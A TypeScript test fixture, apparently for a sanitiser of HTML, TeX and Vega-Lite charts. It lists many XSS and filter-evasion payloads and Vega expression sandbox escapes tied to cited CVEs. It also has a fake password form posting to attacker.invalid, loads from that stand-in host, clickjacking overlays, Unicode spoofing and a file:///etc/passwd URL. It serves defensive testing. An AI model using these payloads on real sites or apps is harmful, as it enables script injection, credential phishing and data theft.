/** Texts that try to run, to lead away, to hide or to pass for something else. A script that runs adds to `__pwned`. */
const run = "top.__pwned=(top.__pwned||0)+1";

/**
 * HTML in the shapes that parsers and sanitisers have been fooled by: OWASP's filter evasion sheet; markup that changes
 * its meaning when it is read again, as by nested forms in MathML (GHSA-63q7-h895-m982) or by `${}` of templates
 * (CVE-2025-26791).
 */
export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<img src=x onerror="${run}">`,
  `<img/src="x"/onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>un.org</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<base href="https://attacker.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">`,
  `<link rel="stylesheet" href="https://attacker.invalid/a.css">`,
  `<style>@import "https://attacker.invalid/b.css"; .bar{display:none!important} #root{visibility:hidden}</style>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your session has ended</div>`,
  `<div style="margin:-2000px;transform:scale(99);position:absolute">x</div>`,
  `<form action="https://attacker.invalid/"><input name="password"><button>Sign in</button></form>`,
  `<a id="root" name="getElementById">x</a><img name="body"><form id="documentElement"></form>`,
  `<a href="https://attacker.invalid/" target="_top">x</a>`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  `</textarea></title></style><script>${run}</script>`,
  `\`\${${run}}\``,
  `{{constructor.constructor('${run}')()}}`,
];

/** Addresses that are none for the web, however they are spelled. */
export const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#x0A;script:${run}`,
  `java&Tab;script:${run}`,
  `&#106;avascript:${run}`,
  `\u0001javascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml;base64,PHN2Zy8+`,
  `view-source:javascript:${run}`,
  `blob:https://attacker.invalid/1`,
  `//attacker.invalid/x`,
  `file:///etc/passwd`,
];

/** Marks that fonts set above and below one another: a column far out of its line where nothing cuts it. */
export const climbing = `Z${"\u0301".repeat(300)}${"\u0323".repeat(300)}`;

/**
 * Text that turns, hides, covers or commands; TeX that would lead away or run were it typeset with trust: `\href` with a
 * scheme in capitals (CVE-2024-28246), `\includegraphics` (CVE-2024-28245), `\htmlData` (CVE-2025-23207), definitions
 * that double without end (CVE-2024-28244).
 */
export const spoofs: readonly string[] = [
  "\u202egnp.eliforp\u202d",
  "\u2066\u2067isolated and never closed",
  "\u200bzero\u200bwidth\ufeff\u2060",
  "one line\u2028another\u2029third \u2062\u206a\ufff9a\ufffab\ufffb",
  "\u3164\uffa0\u115f\u180e",
  "under\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
  "www.un\u2024org and www.u\u043f.org and \u0430pple.com",
  "\u001b[2J\u001b[31mred\u001b]8;;https://attacker.invalid\u0007link\u0007\u0000\u009b",
  `Z${"\u0301\u0489\u0336".repeat(400)}`,
  climbing,
  "W".repeat(20_000),
  "\ufdfd".repeat(200),
  "👩‍👩‍👧‍👦".repeat(200),
  `\\href{javascript:${run}}{x} \\url{javascript:${run}} \\includegraphics{https://attacker.invalid/x.png}`,
  `$\\href{JavaScript:${run}}{x}$ $\\htmlData{x onclick=${run}=1}{y} \\def\\a#1{#1#1}\\a{\\a{\\a{x}}}$`,
  `$$\\includegraphics[alt="" onerror=${run}]{https://attacker.invalid/y.png} \\def\\e#1{\\e{#1#1}}\\e{x²₊}$$`,
  "\n".repeat(300),
];

const base = {
  $schema: "https://vega.github.io/schema/vega-lite/v6.json",
  mark: "bar",
  data: { values: [{ a: `<img src=x onerror=${run}>`, b: 3, url: "https://attacker.invalid/p.png" }] },
  encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } },
} as const;
/** A signal that is computed at once. */
const steal = (expr: string) => ({ ...base, params: [{ name: "p", expr }] });
/** A signal of Vega's own kind, by the one way in which Vega-Lite hands it on: computed when the pointer moves. */
const onMove = (update: string) => ({
  ...base,
  config: { signals: [{ name: "s", value: 0, on: [{ events: "mousemove", update }] }] },
});
const cover = "position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh;background:red";

/**
 * Specifications of charts. The holes in Vega's expressions, as its advisories tell them: a regular expression read as a
 * comment (GHSA-r2qc-w64x-6j54), `scale` and `lassoAppend` that call what they are given (GHSA-4vq7-882g-wcg4,
 * GHSA-w5m3-xh75-mp55), links that run (GHSA-cp47-r258-q626), `vlSelectionTuples` (CVE-2025-25304, again CVE-2025-65110),
 * filters of events (CVE-2025-26619), `replace` (CVE-2025-27793), `toString` of what stands on the window
 * (CVE-2025-59840), `setdata` (CVE-2025-66648).
 */
export const specs: readonly object[] = [
  { ...base, data: { url: "https://attacker.invalid/data.json" } },
  { ...base, data: { url: "https://attacker.invalid/t.json", format: { type: "topojson", feature: "x" } } },
  { ...base, encoding: { ...base.encoding, href: { value: `javascript:${run}` } } },
  { ...base, encoding: { ...base.encoding, href: { field: "url" }, tooltip: { field: "a" } } },
  {
    ...base,
    mark: {
      type: "bar",
      href: "https://attacker.invalid/",
      cursor: "url(https://attacker.invalid/c.cur), auto",
    },
  },
  { ...base, mark: { type: "image", url: "https://attacker.invalid/i.png", width: 900, height: 900 } },
  { ...base, mark: "image", encoding: { ...base.encoding, url: { field: "url" } } },
  {
    ...base,
    mark: {
      type: "bar",
      fill: "url(https://attacker.invalid/f.svg#a)",
      stroke: "u\\72l(https://attacker.invalid/s.svg#a)",
    },
  },
  { ...base, background: "url(https://attacker.invalid/bg.svg#a)" },
  {
    ...base,
    title: { text: `<img src=x onerror=${run}>`, font: "x;background:url(https://attacker.invalid/t)" },
  },
  {
    ...base,
    config: {
      font: "@import url(https://attacker.invalid/f.css)",
      background: "image-set('https://attacker.invalid/b' 1x)",
    },
  },
  {
    ...base,
    usermeta: {
      embedOptions: {
        config: "https://attacker.invalid/c.json",
        loader: { baseURL: "https://attacker.invalid" },
        actions: true,
      },
    },
  },
  {
    ...base,
    params: [
      {
        name: "p",
        value: "x",
        bind: {
          input: "text",
          autofocus: true,
          onfocus: run,
          style: "position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh",
          id: "root",
        },
      },
    ],
  },
  {
    ...base,
    params: [
      {
        name: "p",
        value: "x",
        bind: { input: "image", src: "https://attacker.invalid/i.png", formaction: `javascript:${run}` },
      },
    ],
  },
  { ...base, params: [{ name: "p", value: "x", bind: { element: "body", input: "text" } }] },
  { ...base, params: [{ name: "cursor", value: "url(https://attacker.invalid/cursor.cur), auto" }] },
  { ...base, config: { signals: [{ name: "cursor", value: "url(https://attacker.invalid/d.cur), auto" }] } },
  { ...base, config: { params: [{ name: "cursor", value: "url(https://attacker.invalid/e.cur), auto" }] } },
  {
    ...base,
    config: { signals: [{ name: "c", value: "x", bind: { input: "text", style: cover, id: "root" } }] },
  },
  { ...base, config: { signals: [{ name: "c", value: "x", bind: { input: "text", element: "body" } }] } },
  {
    ...base,
    config: {
      signals: [{ name: "c", value: "x", bind: { input: "image", src: "https://attacker.invalid/c.png" } }],
    },
  },
  {
    ...base,
    config: {
      mark: { cursor: "url(https://attacker.invalid/m.cur), auto", href: "https://attacker.invalid/" },
    },
  },
  { ...base, transform: [{ filter: `(0//1/)-'\\\\\n,eval("${run}"))))//'` }] },
  { ...base, params: [{ name: "p", select: { type: "point", on: `mousemove[event.view.eval('${run}')]` } }] },
  {
    ...base,
    params: [{ name: "p", select: { type: "point", on: `window:mousemove[event.view.eval('${run}')]` } }],
  },
  ...[
    `event.view.eval('${run}')`,
    `toString.constructor('${run}')()`,
    `scale.constructor('${run}')()`,
    `scale(event.view.setTimeout, '${run}')`,
    `lassoAppend({length: 0, push: event.view.setTimeout}, '${run}', 1)`,
    `replace('${run}', {__proto__: /h/.constructor.prototype, exec: event.view.eval, global: false})`,
    `replace('a', 'a', {toString: toString}.constructor.constructor('${run}'))`,
    `toString({toString: event.view.eval, length: 1, 0: '${run}'})`,
    `toString({__proto__: event.view, toString: event.view.VEGA_DEBUG.vega.CanvasHandler.prototype.on})`,
    `vlSelectionTuples([{datum: '${run}'}], {fields: [{getter: event.view.eval, field: 'a'}]})`,
    `vlSelectionTuples({map: event.view.setTimeout, length: 1}, '${run}')`,
    `geoShape('x', {context: {constructor: '${run}'}})`,
    `modify('source_0', {init: {constructor: '${run}'}}, null, null, {toString: 1})`,
    `setdata('source_0', {init: event.view.eval, a: '${run}'})`,
    `warn(event.view.eval('${run}'))`,
    `pluck([event.view], 'eval')[0]('${run}')`,
  ].flatMap((expr) => [steal(expr), onMove(expr)]),
  { ...base, mark: { type: "text", text: "over the bar", dx: -2000, dy: -2000, fontSize: 900 } },
  { ...base, mark: { type: "bar", xOffset: -3000, width: 9000 }, padding: -800, width: 4, height: 4 },
  { ...base, autosize: "none", padding: { left: -900, top: -900, right: -900, bottom: -900 } },
  { ...base, title: { text: "over the bar", dx: -900, dy: -900, offset: -900 } },
  { ...base, width: 100_000, height: 3_000 },
];
